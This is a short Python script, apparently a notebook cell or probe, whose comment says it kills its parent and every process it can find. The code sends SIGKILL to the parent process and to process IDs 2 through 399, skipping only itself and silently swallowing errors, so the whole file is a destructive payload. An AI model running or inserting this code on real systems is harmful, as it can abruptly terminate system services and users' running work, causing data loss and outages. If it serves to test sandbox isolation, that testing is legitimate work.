# lost:
# what: a cell kills its parent, and every process of which it finds the number

import os
import signal

for number in [os.getppid()] + list(range(2, 400)):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
